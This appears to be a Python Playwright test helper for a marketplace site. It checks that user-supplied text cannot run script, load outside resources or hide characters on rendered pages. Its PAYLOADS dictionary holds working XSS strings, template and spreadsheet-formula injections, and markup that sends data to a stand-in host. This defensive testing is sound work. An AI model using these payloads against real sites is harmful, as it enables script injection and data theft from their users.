"""Texts that attack whoever shows them, and what a browser must not have made of them."""

from __future__ import annotations

import time
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Final

from playwright.sync_api import Browser, Dialog

from marketplace.wire.plain import plain
from tests.support.looking import NARROW, WIDE, Looked, looking

PATIENCE: Final = 60.0
AGAIN: Final = 50  # milliseconds between two looks
LONG: Final = "W" * 180
"""Nothing in it may be broken by the language's rules."""
PAYLOADS: Final = {
    "script": "<script>ran=1</script>",
    "image": "<img src=x onerror=ran=1>",
    "drawing": "<svg/onload=ran=1>",
    "frame": '<iframe srcdoc="<script>parent.ran=1</script>">',
    "link": "javascript:ran=1//",
    "double quote": '" autofocus onfocus=ran=1 z="',
    "single quote": "' autofocus onfocus=ran=1 z='",
    "template": "{{7*7}}{%raw%}{{config}}",
    "other template": "${7*7}#{7*7}<%=7*7%>",
    "end of script": "</script><script>ran=1</script>",
    "end of a box": "</textarea><img src=x onerror=ran=1>",
    "end of the title": "</title><script>ran=1</script>",
    "end of a comment": "--><img src=x onerror=ran=1>",
    "base": "<base href=//evil.invalid/>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.invalid/">',
    "dangling": "<img src='//evil.invalid/?",
    "form": "<form action=//evil.invalid/><button autofocus>",
    "style": "<style>*{background:url(//evil.invalid/)}</style>",
    "style in an attribute": '" style="background:url(//evil.invalid/)" z="',
    "facts": '\\"}]}"></div><img src=x onerror=ran=1>',
    "entities": "&lt;script&gt;ran=1&lt;/script&gt;&#60;img&#62;",
    "UTF-7": "+ADw-script+AD4-ran=1+ADw-/script+AD4-",
    "overlong": "\xc0\xbcscript\xc0\xberan=1",
    "formula": "=cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide formula": "\uff1d1+cmd",
    "long": LONG,
    "turned": "abc\u202efed\u2066xyz",
    "hidden": "a\u200bb\ufeffc\u00add",
    "control": "a\x01b\x1b[31mc\x7fd",
    "lines": "a\nb\rc\u2028d",
}
"""By what they try."""
WHOLE: Final = {name: text for name, text in PAYLOADS.items() if plain(text) == text}
"""Those of which every character is shown as itself."""
UNSHOWN: Final = {name: text for name, text in PAYLOADS.items() if name not in WHOLE}
"""The others: with what turns, hides or moves what stands beside it."""

WATCHING: Final = """
  window.reports = [];
  window.addEventListener("securitypolicyviolation", (told) =>
    reports.push(`Content Security Policy: ${told.effectiveDirective} ${told.blockedURI}`), true);
"""
MADE: Final = r"""() => {
  const own = (at) => new URL(at, location.href).origin === location.origin;
  const strange = ({ name, value, ownerElement }) =>
    /^(on.*|style|srcdoc|autofocus|http-equiv)$/.test(name) ||
    (/^(src|href|action|formaction|data)$/.test(name) && !own(value) &&
      !(ownerElement.localName === "a" && value.startsWith("https://")));
  const kept = (each) => String(each.src || each.href).startsWith(`${location.origin}/static/`);
  return [
    ...document.querySelectorAll("img, iframe, frame, object, embed, base, style, template, video, audio"),
    ...[...document.querySelectorAll("script, link")].filter((each) => !kept(each)),
    ...[...document.querySelectorAll("*")].filter((each) => [...each.attributes].some(strange)),
  ].map((each) => each.outerHTML.slice(0, 160));
}"""
"""Elements and attributes that no page of ours has: whatever is found was made of a text."""
SEEN: Final = """() => {
  const controls = [...document.querySelectorAll("input, textarea, option")];
  const folded = [...document.querySelectorAll("details:not([open])")];
  return [document.body.innerText, ...controls.map((each) => each.text ?? each.value),
    ...folded.map((each) => each.textContent)].join("\\n");
}"""
"""All text that somebody can see here, what stands in controls and what is folded away included."""


@dataclass
class Swept:
    """An open page, and whatever a text that it shows has brought about."""

    looked: Looked
    done: list[str] = field(default_factory=list)

    def forget(self) -> Swept:
        """Nothing has been noticed yet."""
        for noticed in (self.done, self.looked.asked, self.looked.complaints):
            noticed.clear()
        return self

    def go(self, path: str) -> Swept:
        """Loads a path of the site, and lets what would run at once run."""
        self.looked.go(path)
        self.looked.page.evaluate("() => new Promise((done) => setTimeout(done, 50))")
        return self

    def found(self) -> list[str]:
        """Everything that was run, made, fetched, or tried."""
        page = self.looked.page
        self.looked.whole()
        origin = page.evaluate("location.origin") + "/"
        asked = [url for url in self.looked.asked if not url.startswith((origin, "blob:"))]
        ran = ["the canary"] if page.evaluate("() => window.ran !== undefined") else []
        # Chromium itself says on the console that an answer had an error status.
        said = [each for each in self.looked.complaints if "status of" not in each]
        return [*self.done, *asked, *ran, *said, *page.evaluate("reports"), *page.evaluate(MADE)]

    def require_harmless(self) -> None:
        """Nothing of that, on a page that fits a phone."""
        assert self.found() == [], self.looked.page.url
        self.looked.dress(NARROW)
        assert self.looked.beyond() == [], self.looked.page.url
        self.looked.dress(WIDE)

    def require_shown(self, texts: Iterable[str], times: int = 1) -> None:
        """Each as text, at least so often, and nothing that turns or hides what stands beside it."""
        wanted, until = [plain(text) for text in texts], time.monotonic() + PATIENCE
        seen = self.seen()
        while any(seen.count(text) < times for text in wanted) and time.monotonic() < until:
            self.looked.page.wait_for_timeout(AGAIN)  # modules draw when they have asked
            seen = self.seen()
        assert [text for text in wanted if seen.count(text) < times] == [], self.looked.page.url
        require_plain(seen)

    def seen(self) -> str:
        """All text of the page, in controls and in what is folded away, too."""
        self.looked.whole()
        return str(self.looked.page.evaluate(SEEN))


def require_plain(seen: str) -> None:
    """Nothing turns or hides what stands beside it; pages have line breaks of their own."""
    text = seen.replace("\n", "").replace("\t", "")
    assert plain(text) == text


@contextmanager
def sweeping(browser: Browser, origin: str) -> Iterator[Swept]:
    """A browser of its own in which nothing that runs, or tries to, stays unnoticed."""
    with looking(browser, origin) as looked:
        swept = Swept(looked)

        def hear(dialog: Dialog) -> None:
            swept.done.append(f"a dialog: {dialog.type}")
            dialog.dismiss()

        looked.page.add_init_script(WATCHING)
        looked.page.on("dialog", hear)
        looked.page.on("popup", lambda _: swept.done.append("a window"))
        yield swept
